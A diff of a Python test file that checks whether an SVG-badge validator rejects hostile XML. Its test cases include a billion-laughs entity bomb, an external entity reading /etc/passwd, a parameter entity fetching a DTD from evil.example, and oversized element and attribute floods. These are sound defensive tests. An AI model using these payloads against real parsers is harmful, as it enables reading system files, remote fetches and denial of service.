@@ -105,6 +105,7 @@ def test_a_picture_without_a_record_says_so(data):
     assert codes(read(data)) == ["picture_without_record"]
 
 
+HELD = f'<o:credential xmlns:o="{OB3}" verify=""/>'
 BOMB = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
 
 
@@ -123,11 +124,12 @@ BOMB = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in r
         (svg("&m;", f'<!DOCTYPE svg [<!ENTITY a "lol">{BOMB}]>'), "picture_entities"),
         (svg("&x;", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "picture_entities"),
         (svg("", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), "picture_entities"),
-        (svg("<g/>" * 200_001), "picture_bomb"),
-        (svg("<g>"), "picture_broken"),
-        (svg("&unknown;"), "picture_broken"),
+        (svg(HELD + "<g/>" * 200_001), "picture_bomb"),
+        (svg(HELD + "<g " + " ".join(f"a{n}='>'" for n in range(300_000)) + "/>"), "picture_bomb"),
+        (svg(HELD + "<g>"), "picture_broken"),
+        (svg(HELD + "&unknown;"), "picture_broken"),
         (svg("").replace(b'"1.0"?', b'"1.0" encoding="klingon"?'), "picture_without_record"),
-        (svg("\xe9").decode().encode("latin-1"), "picture_broken"),
+        (svg(f"{HELD}\xe9").decode().encode("latin-1"), "picture_broken"),
     ],
 )
 def test_a_picture_that_is_broken_or_harmful_gives_a_reason_in_time(data, code):
